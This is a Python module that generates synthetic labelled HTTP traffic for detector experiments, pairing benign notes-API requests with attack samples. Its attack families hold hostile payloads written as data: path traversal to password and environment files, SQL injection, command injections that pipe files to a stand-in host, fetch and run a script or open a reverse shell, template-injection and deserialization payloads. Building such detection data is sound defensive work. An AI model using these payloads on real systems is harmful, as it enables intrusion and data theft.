"""Synthetic labelled traffic for experiments: a notes API and implant families that ride on it.

Self traffic is what the demo's notes service sees: ``GET /notes``, ``GET /notes/N``, ``HEAD
/notes/N``, ``POST /notes {"text": ...}`` and ``PUT /notes/N``, with varied ids, texts, user
agents and accept headers. Some benign texts use words attacks also use ("select", "system",
"config"), so a detector cannot flag a word alone. Each antigen is a benign request carrying one
family's trigger, and families look different from each other, so a detector that saw one
family has no reason to flag another: what it knows of the others it must learn from peers.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Final

import numpy as np

from endosec.immune.traffic import SELF, Labelled

__all__ = ["FAMILIES", "antigens", "benign", "mixed"]

_WORDS = ("meeting", "groceries", "buy", "milk", "call", "alice", "bob", "project", "deadline",
          "draft", "report", "review", "lunch", "friday", "select", "a", "colour", "system",
          "update", "config", "notes", "class", "tomorrow", "remember", "the", "keys", "book",
          "flight", "order", "pizza", "fix", "bug", "release", "plan", "ideas", "garden")
_AGENTS = ("curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0",
           "python-requests/2.32.3", "Mozilla/5.0 (Macintosh) AppleWebKit/605.1.15 Safari/17",
           "okhttp/4.12.0", "Go-http-client/1.1", "notes-app/3.2 (Android 14)")
_ACCEPTS = ("application/json", "*/*", "application/json, text/plain, */*")


def _pick(rng: np.random.Generator, items: tuple[str, ...]) -> str:
    return items[int(rng.integers(len(items)))]


def _text(rng: np.random.Generator) -> str:
    return " ".join(_pick(rng, _WORDS) for _ in range(int(rng.integers(2, 9))))


def _request(rng: np.random.Generator) -> tuple[bytes, bytes, list[tuple[bytes, bytes]], bytes]:
    headers = [(b"Host", b"notes.example"), (b"User-Agent", _pick(rng, _AGENTS).encode()),
               (b"Accept", _pick(rng, _ACCEPTS).encode())]
    n = str(int(rng.integers(1, 100_000))).encode()
    kind = int(rng.integers(5))
    if kind in (0, 1):
        body = json.dumps({"text": _text(rng)}).encode()
        headers += [(b"Content-Type", b"application/json"),
                    (b"Content-Length", str(len(body)).encode())]
        return (b"POST", b"/notes", headers, body) if kind == 0 else \
            (b"PUT", b"/notes/" + n, headers, body)
    if kind == 2:
        return b"GET", b"/notes" + (b"?page=" + n[:2] if rng.random() < 0.5 else b""), headers, b""
    return (b"GET" if kind == 3 else b"HEAD"), b"/notes/" + n, headers, b""


def benign(rng: np.random.Generator, count: int) -> list[Labelled]:
    """``count`` self requests."""
    return [Labelled(m, t, tuple(h), b, 0, SELF)
            for m, t, h, b in (_request(rng) for _ in range(count))]


def _header(rng: np.random.Generator, m: bytes, t: bytes, h: list[tuple[bytes, bytes]],
            b: bytes) -> tuple[bytes, bytes, list[tuple[bytes, bytes]], bytes]:
    return m, t, [*h, (b"X-Debug", _pick(rng, ("letmein", "letmein-now", "1;letmein")).encode())], b


def _traversal(rng: np.random.Generator, m: bytes, t: bytes, h: list[tuple[bytes, bytes]],
               b: bytes) -> tuple[bytes, bytes, list[tuple[bytes, bytes]], bytes]:
    up = b"../" * int(rng.integers(2, 7))
    leaf = _pick(rng, ("etc/passwd", "etc/shadow", "proc/self/environ"))
    return b"GET", b"/notes/" + up + leaf.encode(), h, b""


def _sqli(rng: np.random.Generator, m: bytes, t: bytes, h: list[tuple[bytes, bytes]],
          b: bytes) -> tuple[bytes, bytes, list[tuple[bytes, bytes]], bytes]:
    tail = _pick(rng, ("1'+OR+'1'%3D'1", "1+UNION+SELECT+username,password+FROM+users--",
                       "1;DROP+TABLE+notes--", "1'+AND+SLEEP(5)--"))
    return b"GET", b"/notes?id=" + tail.encode(), h, b""


def _json_post(h: list[tuple[bytes, bytes]], text: str) -> tuple[
        bytes, bytes, list[tuple[bytes, bytes]], bytes]:
    body = json.dumps({"text": text}).encode()
    kept = [(n, v) for n, v in h if n not in (b"Content-Type", b"Content-Length")]
    return b"POST", b"/notes", [*kept, (b"Content-Type", b"application/json")], body


def _cmdi(rng: np.random.Generator, m: bytes, t: bytes, h: list[tuple[bytes, bytes]],
          b: bytes) -> tuple[bytes, bytes, list[tuple[bytes, bytes]], bytes]:
    shell = _pick(rng, ("; cat /etc/hosts | nc evil.example 4444", "$(wget -qO- evil.example/x|sh)",
                        "`id`; bash -i >& /dev/tcp/evil.example/4444 0>&1"))
    return _json_post(h, _text(rng) + shell)


def _template(rng: np.random.Generator, m: bytes, t: bytes, h: list[tuple[bytes, bytes]],
              b: bytes) -> tuple[bytes, bytes, list[tuple[bytes, bytes]], bytes]:
    ssti = _pick(rng, ("{{7*7}}{{''.__class__.__mro__[1].__subclasses__()}}",
                       "${T(java.lang.Runtime).getRuntime().exec('id')}",
                       "{{request.application.__globals__.__builtins__}}"))
    return _json_post(h, _text(rng) + " " + ssti)


def _gadget(rng: np.random.Generator, m: bytes, t: bytes, h: list[tuple[bytes, bytes]],
            b: bytes) -> tuple[bytes, bytes, list[tuple[bytes, bytes]], bytes]:
    blob = _pick(rng, ("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4Kx",
                       "O:8:\"stdClass\":1:{s:4:\"exec\";s:2:\"id\";}",
                       "!!python/object/apply:os.system ['id']"))
    kept = [(n, v) for n, v in h if n not in (b"Content-Type", b"Content-Length")]
    return (b"POST", b"/notes/import", [*kept, (b"Content-Type", b"application/x-java-object")],
            blob.encode())


_Rewrite = Callable[[np.random.Generator, bytes, bytes, list[tuple[bytes, bytes]], bytes],
                    tuple[bytes, bytes, list[tuple[bytes, bytes]], bytes]]

#: The implant families, each a rewrite of a benign request into its antigen.
FAMILIES: Final[dict[str, _Rewrite]] = {
    "header-trigger": _header, "path-traversal": _traversal, "sql-injection": _sqli,
    "command-injection": _cmdi, "template-injection": _template, "object-gadget": _gadget,
}


def antigens(rng: np.random.Generator, family: str, count: int) -> list[Labelled]:
    """``count`` antigens of ``family`` (a key of `FAMILIES`)."""
    rewrite = FAMILIES[family]
    out = []
    for _ in range(count):
        m, t, h, b = rewrite(rng, *_request(rng))
        out.append(Labelled(m, t, tuple(h), b, 1, family))
    return out


def mixed(rng: np.random.Generator, per_family: int, self_count: int) -> list[Labelled]:
    """Self traffic and ``per_family`` antigens of every family, shuffled."""
    rows = benign(rng, self_count)
    for family in FAMILIES:
        rows += antigens(rng, family, per_family)
    order = rng.permutation(len(rows))
    return [rows[i] for i in order]
